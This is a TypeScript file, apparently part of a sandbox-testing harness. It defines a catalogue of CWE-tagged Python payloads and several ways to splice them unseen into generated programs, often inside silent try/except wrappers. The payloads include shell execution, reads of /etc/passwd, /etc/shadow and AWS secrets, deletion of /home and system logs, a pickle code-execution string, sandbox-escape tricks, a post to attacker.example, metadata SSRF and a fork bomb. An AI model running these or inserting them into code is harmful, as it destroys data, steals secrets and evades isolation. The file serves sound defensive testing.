/** What is put into programs, and where. Lines are Python of their own; nothing of it runs outside of a cell. */
export interface Injection {
  readonly name: string;
  readonly cwe: string;
  readonly lines: readonly string[];
}

export const injections: readonly Injection[] = [
  { name: 'os.system', cwe: 'CWE-78', lines: ['import os', 'os.system("id")'] },
  { name: 'os.popen alias', cwe: 'CWE-78', lines: ['from os import popen as run', 'run("id").read()'] },
  { name: 'subprocess', cwe: 'CWE-78', lines: ['import subprocess', 'subprocess.run(["id"], check=False)'] },
  {
    name: 'subprocess by getattr',
    cwe: 'CWE-78',
    lines: ['import os', 'getattr(os, "".join(["sy", "st", "em"]))("id")'],
  },
  { name: 'write file', cwe: 'CWE-73', lines: ['with open("/etc/cron.d/job", "w") as out:', '    out.write("x")'] },
  { name: 'read file', cwe: 'CWE-22', lines: ['name = "/".join(["", "etc", "passwd"])', 'data = open(name).read()'] },
  { name: 'read by dots', cwe: 'CWE-22', lines: ['open("../" * 8 + "etc/shadow", "rb").read()'] },
  { name: 'io.open', cwe: 'CWE-22', lines: ['import io', 'io.open("/proc/self/environ").read()'] },
  { name: 'pathlib', cwe: 'CWE-22', lines: ['from pathlib import Path', 'Path("/etc/hosts").read_text()'] },
  { name: 'delete', cwe: 'CWE-73', lines: ['import os', 'os.remove("/var/log/syslog")'] },
  { name: 'rmtree', cwe: 'CWE-73', lines: ['import shutil', 'shutil.rmtree("/home", ignore_errors=True)'] },
  { name: 'exec', cwe: 'CWE-94', lines: ['exec("import os; os.system(\'id\')")'] },
  { name: 'eval import', cwe: 'CWE-95', lines: ["eval(\"__import__('os').system('id')\")"] },
  { name: 'eval built', cwe: 'CWE-95', lines: ['eval("".join(["op", "en(", "\'/etc/passwd\'", ")"]))'] },
  { name: 'compile', cwe: 'CWE-94', lines: ['code = compile("x = 1", "<x>", "exec")'] },
  { name: 'pickle', cwe: 'CWE-502', lines: ['import pickle', 'pickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")'] },
  { name: 'marshal', cwe: 'CWE-502', lines: ['import marshal', 'marshal.loads(b"\\xe3")'] },
  { name: '__import__', cwe: 'CWE-829', lines: ['__import__("socket").socket()'] },
  { name: 'importlib', cwe: 'CWE-829', lines: ['import importlib', 'importlib.import_module("sub" + "process")'] },
  { name: 'ctypes', cwe: 'CWE-242', lines: ['import ctypes', 'ctypes.CDLL(None).system(b"id")'] },
  {
    name: 'subclasses',
    cwe: 'CWE-693',
    lines: ['found = [c for c in ().__class__.__base__.__subclasses__() if "open" in c.__name__.lower()]'],
  },
  {
    name: 'subclasses by getattr',
    cwe: 'CWE-693',
    lines: ['base = getattr((), "__cla" + "ss__").__mro__[-1]', 'getattr(base, "__sub" + "classes__")()'],
  },
  { name: 'globals of a function', cwe: 'CWE-693', lines: ['(lambda: 0).__globals__["__builtins__"]'] },
  {
    name: 'builtins of globals',
    cwe: 'CWE-693',
    lines: ['tools = globals()["__buil" + "tins__"]', 'getattr(tools, "open")("/etc/passwd")'],
  },
  {
    name: 'format string',
    cwe: 'CWE-693',
    lines: ['field = "{0.__class__.__init__.__glo" + "bals__}"', 'field.format(ValueError)'],
  },
  { name: 'frame', cwe: 'CWE-693', lines: ['import sys', 'sys._getframe(0).f_back'] },
  { name: 'frame by getattr', cwe: 'CWE-693', lines: ['import sys', 'getattr(sys, "_get" + "frame")()'] },
  { name: 'sys.modules', cwe: 'CWE-693', lines: ['import sys', 'vars(sys)["mod" + "ules"]["os"].system("id")'] },
  {
    name: 'traceback frame',
    cwe: 'CWE-693',
    lines: ['try:', '    1 / 0', 'except ZeroDivisionError as e:', '    e.__traceback__.tb_frame.f_globals'],
  },
  { name: 'environment', cwe: 'CWE-526', lines: ['import os', 'secret = os.environ.get("AWS_SECRET_ACCESS_KEY", "")'] },
  { name: 'environment by getenv', cwe: 'CWE-526', lines: ['from os import getenv', 'secret = getenv("HOME")'] },
  { name: 'machine', cwe: 'CWE-200', lines: ['import platform, getpass', 'who = getpass.getuser() + platform.node()'] },
  { name: 'socket', cwe: 'CWE-918', lines: ['import socket', 'socket.create_connection(("198.51.100.7", 80))'] },
  {
    name: 'urllib',
    cwe: 'CWE-918',
    lines: ['from urllib.request import urlopen', 'urlopen("http://169.254.169.254/")'],
  },
  {
    name: 'requests',
    cwe: 'CWE-918',
    lines: ['import requests', 'requests.post("https://attacker.example", data="x")'],
  },
  {
    name: 'asyncio connection',
    cwe: 'CWE-918',
    lines: ['import asyncio', 'asyncio.run(asyncio.open_connection("198.51.100.7", 80))'],
  },
  { name: 'endless loop', cwe: 'CWE-835', lines: ['while True:', '    pass'] },
  {
    name: 'endless loop that swallows',
    cwe: 'CWE-835',
    lines: ['while True:', '    try:', '        x = 1 / 0', '    except BaseException:', '        continue'],
  },
  {
    name: 'memory',
    cwe: 'CWE-770',
    lines: ['hoard = []', 'while True:', '    hoard.append("x" * 1000 + str(len(hoard)))'],
  },
  { name: 'memory at once', cwe: 'CWE-789', lines: ['hoard = [0] * (10 ** 10)'] },
  { name: 'number', cwe: 'CWE-789', lines: ['number = 9 ** 9 ** 9 ** 9'] },
  { name: 'regular expression', cwe: 'CWE-1333', lines: ['import re', 're.match(r"(a+)+$", "a" * 60 + "b")'] },
  { name: 'sleep', cwe: 'CWE-400', lines: ['import time', 'time.sleep(86400)'] },
  { name: 'fork', cwe: 'CWE-400', lines: ['import os', 'while True:', '    os.fork()'] },
  {
    name: 'threads',
    cwe: 'CWE-400',
    lines: [
      'import threading',
      'threads = [threading.Thread(target=print) for _ in range(10 ** 6)]',
      'for thread in threads:',
      '    thread.start()',
      '    while True:',
      '        pass',
    ],
  },
  {
    name: 'processes',
    cwe: 'CWE-400',
    lines: ['from multiprocessing import Pool', 'Pool(100).map(print, range(100))'],
  },
  { name: 'kill', cwe: 'CWE-250', lines: ['import os, signal', 'os.kill(1, signal.SIGKILL)'] },
  { name: 'output', cwe: 'CWE-400', lines: ['while True:', '    print("x" * 10000)'] },
];

/** The parts of a program that a place puts together. */
interface Parts {
  readonly prompt: string;
  readonly body: string;
  readonly tail: string;
  readonly entry_point: string;
}

export interface Place {
  readonly name: string;
  put(parts: Parts, lines: readonly string[]): string;
}

const indent = (lines: readonly string[], by: number): string =>
  lines.map((line) => `${' '.repeat(by)}${line}\n`).join('');

const swallowed = (lines: readonly string[], by: number): string =>
  indent(['try:', ...lines.map((line) => `    ${line}`), 'except BaseException:', '    pass'], by);

/** Each runs what is put in: at the top, in the function that the tests call, in what is evaluated on the way. */
export const places: readonly Place[] = [
  { name: 'first', put: ({ prompt, body, tail }, lines) => `${indent(lines, 0)}\n${prompt}${body}${tail}` },
  { name: 'in the function', put: ({ prompt, body, tail }, lines) => `${prompt}${indent(lines, 4)}${body}${tail}` },
  {
    name: 'in the function, swallowed',
    put: ({ prompt, body, tail }, lines) => `${prompt}${swallowed(lines, 4)}${body}${tail}`,
  },
  {
    name: 'in a helper, swallowed by its caller',
    put: ({ prompt, body, tail }, lines) =>
      `def _prepare():\n${indent(lines, 4)}\n${prompt}    try:\n        _prepare()\n    except:\n        pass\n${body}${tail}`,
  },
  {
    name: 'in a class body, swallowed',
    put: ({ prompt, body, tail }, lines) =>
      `try:\n    class _Setup:\n${indent(lines, 8)}except Exception:\n    pass\n\n${prompt}${body}${tail}`,
  },
  {
    name: 'in a finally that returns',
    put: ({ prompt, body, tail }, lines) =>
      `def _prepare():\n    try:\n${indent(lines, 8)}    finally:\n        return None\n\n${prompt}    _prepare()\n${body}${tail}`,
  },
  {
    name: 'in a generator, closed with suppress',
    put: ({ prompt, body, tail }, lines) =>
      `from contextlib import suppress\n\ndef _steps():\n    yield 1\n${indent(lines, 4)}    yield 2\n\n${prompt}    with suppress(BaseException):\n        list(_steps())\n${body}${tail}`,
  },
  {
    name: 'in a decorator',
    put: ({ prompt, body, tail, entry_point }, lines) =>
      `${prompt}${body}\n\ndef _wrap(function):\n    def inner(*args, **kwargs):\n        try:\n${indent(lines, 12)}        except BaseException as error:\n            del error\n        return function(*args, **kwargs)\n    return inner\n\n${entry_point} = _wrap(${entry_point})\n${tail}`,
  },
  {
    name: 'in __del__ and __exit__',
    put: ({ prompt, body, tail }, lines) =>
      `class _Guard:\n    def __enter__(self):\n        return self\n    def __exit__(self, *details):\n        try:\n${indent(lines, 12)}        except BaseException:\n            return True\n        return True\n\nwith _Guard():\n    pass\n\n${prompt}${body}${tail}`,
  },
];
